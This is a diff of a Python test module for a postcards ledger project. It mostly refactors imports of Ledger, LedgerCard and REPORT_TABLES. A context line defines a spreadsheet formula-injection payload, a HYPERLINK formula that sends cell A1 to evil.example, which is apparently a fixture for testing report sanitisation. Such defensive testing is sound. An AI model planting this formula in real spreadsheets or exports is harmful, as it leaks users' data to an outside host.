@@ -12,8 +12,9 @@ from conftest import run
 
 from postcards.codes import new_code
 from postcards.errors import UsageError
+from postcards.ledger.book import Ledger
 from postcards.ledger.coverage import Directory, build_report, write_report
-from postcards.ledger.database import Ledger, LedgerCard
+from postcards.ledger.model import LedgerCard
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 AT = "2025-03-01T09:30:00Z"
@@ -181,7 +182,7 @@ def test_track_report_command(ledger, tmp_path, monkeypatch) -> None:
 
 
 def test_the_cli_offers_the_reports_tables() -> None:
-    from postcards.cli import REPORT_TABLES
+    from postcards.cli.tracking import REPORT_TABLES
     from postcards.ledger.coverage import TABLES
 
     assert REPORT_TABLES == TABLES
